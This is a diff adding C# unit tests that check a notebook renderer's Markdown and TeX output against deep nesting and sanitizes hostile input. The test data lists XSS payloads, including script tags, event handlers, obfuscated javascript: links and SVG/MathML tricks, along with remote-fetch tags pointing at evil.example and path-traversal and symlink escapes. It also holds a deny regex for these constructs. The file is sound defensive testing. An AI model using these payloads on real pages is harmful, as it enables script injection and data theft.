@@ -48,5 +48,104 @@ public sealed class PageTests : IDisposable
         Assert.DoesNotContain("<script", html);
     }
 
+    [Theory]
+    [InlineData("{", "}")]
+    [InlineData("\\frac{", "}{2}")]
+    [InlineData("\\mathcal{x^{", "}}")]
+    [InlineData("x_{", "}")]
+    [InlineData("\\left(", "\\right)")]
+    public void A_formula_nested_20000_deep_is_shown_as_it_is_written(string open, string close)
+    {
+        string tex = Repeated(open, 20_000) + "x" + Repeated(close, 20_000);
+        var math = XElement.Parse(TexToMathml.Convert(tex, display: true));
+        Assert.Equal(tex, math.Value);
+        Assert.Contains("<msup>", TexToMathml.Convert("x^2", display: false), StringComparison.Ordinal);
+
+        var shallow = Repeated("{", 150) + "x" + Repeated("}", 150);
+        Assert.Equal("x", XElement.Parse(TexToMathml.Convert(shallow, display: true)).Value);
+
+        static string Repeated(string part, int times) => string.Concat(Enumerable.Repeat(part, times));
+    }
+
+    // What could run or fetch anything: after cleaning, no name of these is left in a tag.
+    [Theory]
+    [InlineData("<script>alert(1)</script>")]
+    [InlineData("<SCRIPT SRC=//evil.example/x.js></SCRIPT>")]
+    [InlineData("<img src=x onerror=alert(1)>")]
+    [InlineData("<img src=\"https://evil.example/p.png\" alt=\"p\">")]
+    [InlineData("![p](https://evil.example/p.png)")]
+    [InlineData("![p](//evil.example/p.png)")]
+    [InlineData("![p](../outside.png)")]
+    [InlineData("![p](%2e%2e/outside.png)")]
+    [InlineData("![p](linked.png)")]
+    [InlineData("![p](linkedfolder/outside.png)")]
+    [InlineData("[x](javascript:alert(1))")]
+    [InlineData("[x](JaVaScRiPt&colon;alert(1))")]
+    [InlineData("[x](data:text/html;base64,PHNjcmlwdD4=)")]
+    [InlineData("<a href=\"java\nscript:alert(1)\">x</a>")]
+    [InlineData("# Title {onclick=alert(1)}")]
+    [InlineData("<div style=\"background: url(https://evil.example/p.png)\">x</div>")]
+    [InlineData("<style>body { background: url(https://evil.example/p.png) }</style>")]
+    [InlineData("<svg><script>alert(1)</script></svg>")]
+    [InlineData("<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>")]
+    [InlineData("<iframe src=\"https://evil.example\"></iframe>")]
+    [InlineData("<form action=\"https://evil.example\"><input name=p></form>")]
+    [InlineData("<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example\">")]
+    [InlineData("<object data=\"https://evil.example/x\"></object><embed src=\"x\"><video poster=\"//evil.example/p\">")]
+    [InlineData("</div></body><script>alert(1)</script>")]
+    public void Markdown_of_a_stranger_runs_nothing_and_fetches_nothing(string markdown)
+    {
+        var outside = Directory.CreateDirectory(Path.Combine(_notebooks.Folder, "..", Guid.NewGuid().ToString("N")));
+        File.WriteAllText(_notebooks.At("../outside.png"), "secret");
+        File.WriteAllText(Path.Combine(outside.FullName, "outside.png"), "secret");
+        File.CreateSymbolicLink(_notebooks.At("linked.png"), _notebooks.At("../outside.png"));
+        Directory.CreateSymbolicLink(_notebooks.At("linkedfolder"), outside.FullName);
+        try
+        {
+            var html = MarkdownText.Html($"before\n\n{markdown}\n\nafter", _notebooks.Folder);
+            var tags = string.Concat(System.Text.RegularExpressions.Regex.Matches(html, "<[^>]*>").Select(tag => tag.Value));
+            Assert.DoesNotMatch("(?i)script|onerror|onclick|javascript|evil|style|iframe|<form|<input|<base|<meta|<object|"
+                + "<embed|<video|<svg|text/html|" + Convert.ToBase64String("secret"u8), tags);
+            Assert.DoesNotContain("alert(1)</script>", html, StringComparison.Ordinal);
+            Assert.StartsWith("<p>before</p>", html, StringComparison.Ordinal);
+        }
+        finally
+        {
+            File.Delete(_notebooks.At("../outside.png"));
+            outside.Delete(recursive: true);
+        }
+    }
+
+    [Fact]
+    public void A_picture_that_is_not_shown_is_named()
+    {
+        Assert.Contains("[picture not shown: a cat (https://example.org/cat.png)",
+            MarkdownText.Html("![a cat](https://example.org/cat.png)", _notebooks.Folder), StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("<details><summary>More</summary>\n\n**text**\n\n</details>", "<strong>text</strong>")]
+    [InlineData("- [x] done", "<input disabled=\"disabled\" type=\"checkbox\" checked=\"checked\">")]
+    [InlineData("[a link](https://example.org/a?b=1#c)", "<a href=\"https://example.org/a?b=1#c\">a link</a>")]
+    [InlineData("[next](02-mid-training.ipynb)", "href=\"02-mid-training.ipynb\"")]
+    [InlineData("|a|b|\n|-|:-:|\n|1|2|", "<td")]
+    [InlineData("$\\frac{1}{2}$", "<mfrac><mrow><mn>1</mn></mrow><mrow><mn>2</mn></mrow></mfrac>")]
+    [InlineData("H<sub>2</sub>O", "H<sub>2</sub>O")]
+    [InlineData("```csharp\nvar x = 1;\n```", "<span class=\"keyword\">var</span>")]
+    public void What_a_reader_needs_of_Markdown_stays(string markdown, string part) =>
+        Assert.Contains(part, MarkdownText.Html(markdown, _notebooks.Folder), StringComparison.Ordinal);
+
+    [Theory]
+    [InlineData("> ")]
+    [InlineData("[")]
+    [InlineData("*a ")]
+    [InlineData("- ")]
+    [InlineData("<b>")]
+    public void Markdown_nested_very_deep_is_a_page_all_the_same(string part)
+    {
+        var html = MarkdownText.Html(string.Concat(Enumerable.Repeat(part, 20_000)) + "end", _notebooks.Folder);
+        Assert.Contains("end", html, StringComparison.Ordinal);
+    }
+
     public void Dispose() => _notebooks.Dispose();
 }
